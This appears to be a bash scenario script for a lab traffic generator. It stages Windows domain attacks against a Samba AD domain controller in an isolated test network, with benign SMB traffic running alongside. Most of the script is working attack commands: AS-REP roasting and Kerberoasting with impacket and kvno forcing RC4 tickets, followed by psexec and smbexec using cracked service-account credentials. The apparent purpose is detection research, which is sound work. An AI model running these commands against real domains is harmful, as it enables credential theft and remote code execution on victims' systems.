# sourced by run-scenario.sh: the story played between the hosts
# Windows domain attacks on a Samba AD DC (realm LAB.LOCAL, dc1): AS-REP roasting attempt with
# impacket GetNPUsers over a user list (Samba 4.17's KDC asks svc_backup for pre-auth all the same),
# Kerberoasting with a phished password (alice): an LDAP query for accounts with an SPN, then an
# RC4 service ticket for svc_sql's SPN (kinit + kvno; impacket GetUserSPNs's own TGS-REQ is refused
# by this KDC), then psexec and smbexec with the cracked service account (svc_sql, a Domain Admin)
# against the DC: Samba runs no Windows services, so they get as far as the upload to ADMIN$ and the
# svcctl calls. Meanwhile a benign user (carol) gets a Kerberos ticket with kinit and copies files to
# and from the dept share with smbclient.
NET=172.31.230; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
EXTRA_HOSTS="$NET.10 dc1.lab.local"
source "$HERE/lib/samba-dc.sh"
IMP=/usr/share/doc/python3-impacket/examples
services() { samba_dc_start; }
benign_smb() {   # carol: kinit (AS-REQ with pre-auth), smbclient with Kerberos to the dept share, both ways
  printf 'Minutes of the Monday meeting\n- budget\n- hiring\n' > "$RUN/minutes.txt"
  echo 'Winter!2026c' | nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" kinit carol@LAB.LOCAL >"$RUN/logs/kinit.log" 2>&1 || true
  ( cd "$RUN" && nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" smbclient //dc1.lab.local/dept --use-kerberos=required \
      --option='client min protocol=SMB2' -c "ls; put minutes.txt; get budget-2027.txt $RUN/budget-copy.txt; ls" >"$RUN/logs/smbclient-carol.log" 2>&1 ) || true
}
play() {
  note "attacker $A; domain controller dc1.lab.local $V (Samba 4.17 AD DC, realm LAB.LOCAL: Kerberos 88, LDAP 389, SMB 445, RPC 135); benign workstation (carol) $C; dns $D"
  for h in cli att; do mkdir -p "/etc/netns/$P-$h"; printf '127.0.0.1 localhost\n%s dc1.lab.local dc1\n' $V > "/etc/netns/$P-$h/hosts"; printf 'nameserver %s\n' $D > "/etc/netns/$P-$h/resolv.conf"; done
  note "0 benign: carol gets a TGT with kinit (pre-authenticated AS-REQ) and a cifs ticket, lists the dept share, puts minutes.txt and gets budget-2027.txt (smbclient, Kerberos, SMB2/3)"
  benign_smb
  sleep 2
  printf '%s\n' administrator alice bob carol dave svc_sql svc_backup guest krbtgt helpdesk > "$RUN/users.txt"
  note "1 AS-REP roasting: impacket GetNPUsers LAB.LOCAL/ -usersfile (10 names) -no-pass -dc-ip $V: one AS-REQ without pre-auth per name; svc_backup has DONT_REQ_PREAUTH set but Samba 4.17's KDC still answers KDC_ERR_PREAUTH_REQUIRED, like for the other existing names; unknown names get KDC_ERR_C_PRINCIPAL_UNKNOWN"
  nsx att /usr/bin/python3 $IMP/GetNPUsers.py LAB.LOCAL/ -usersfile "$RUN/users.txt" -no-pass -dc-ip $V -format hashcat -outputfile "$RUN/logs/asrep.hashes" >"$RUN/logs/getnpusers.log" 2>&1 || true
  sleep 2
  note "2 Kerberoasting with a phished password (alice/Sunshine!2026): ldapsearch with a simple bind as alice (cleartext LDAP) lists the users with a servicePrincipalName; kinit alice (pre-authenticated, RC4 preferred) and kvno MSSQLSvc/sql01.lab.local:1433 ask for a service ticket of svc_sql's SPN in RC4 (etype 23): the TGS-REP carries the crackable ticket"
  printf '[libdefaults]\n\tdefault_realm = LAB.LOCAL\n\tdns_lookup_kdc = false\n\tdefault_tgs_enctypes = rc4-hmac\n\tdefault_tkt_enctypes = rc4-hmac aes256-cts-hmac-sha1-96\n\tpermitted_enctypes = rc4-hmac aes256-cts-hmac-sha1-96\n\tallow_weak_crypto = true\n\tudp_preference_limit = 1\n[realms]\n\tLAB.LOCAL = {\n\t\tkdc = %s\n\t}\n' $V > "$RUN/krb5-att.conf"
  nsx att ldapsearch -x -LLL -H ldap://$V -D 'alice@lab.local' -w 'Sunshine!2026' -b 'DC=lab,DC=local' '(&(objectCategory=user)(servicePrincipalName=*))' sAMAccountName servicePrincipalName memberOf >"$RUN/logs/ldapsearch.log" 2>&1 || true
  sleep 1
  echo 'Sunshine!2026' | nsx att env KRB5_CONFIG="$RUN/krb5-att.conf" KRB5CCNAME="FILE:$RUN/cc.att" kinit alice@LAB.LOCAL >"$RUN/logs/kinit-att.log" 2>&1 || true
  nsx att env KRB5_CONFIG="$RUN/krb5-att.conf" KRB5CCNAME="FILE:$RUN/cc.att" kvno -e rc4-hmac MSSQLSvc/sql01.lab.local:1433 >"$RUN/logs/kvno.log" 2>&1 || true
  sleep 1
  note "2b impacket GetUserSPNs -usersfile (svc_sql) with alice's password: a TGT for alice, then a TGS-REQ for svc_sql (refused by Samba 4.17: KRB_AP_ERR_INAPP_CKSUM, impacket 0.10's checksum)"
  echo svc_sql > "$RUN/spnusers.txt"
  nsx att /usr/bin/python3 $IMP/GetUserSPNs.py 'LAB.LOCAL/alice:Sunshine!2026' -dc-ip $V -usersfile "$RUN/spnusers.txt" -request -outputfile "$RUN/logs/tgs.hashes" >"$RUN/logs/getuserspns.log" 2>&1 || true
  sleep 2
  note "3 psexec with the cracked svc_sql:Mssql2019! (a Domain Admin): SMB login, share enumeration, ADMIN\$ writable, upload of the service binary to ADMIN\$, svcctl OpenSCManager, CreateService fails (nca_s_op_rng_error: Samba implements no CreateService), the binary is deleted"
  nsx att timeout 40 /usr/bin/python3 $IMP/psexec.py 'LAB/svc_sql:Mssql2019!@'$V 'cmd.exe /c whoami' >"$RUN/logs/psexec.log" 2>&1 </dev/null || true
  sleep 2
  note "4 smbexec with the same account: svcctl CreateService with a cmd.exe command line that writes its output to a share"
  nsx att timeout 40 /usr/bin/python3 $IMP/smbexec.py 'LAB/svc_sql:Mssql2019!@'$V >"$RUN/logs/smbexec.log" 2>&1 <<< 'whoami' || true
  sleep 2
  note "5 benign again: carol copies minutes.txt again"
  benign_smb
}
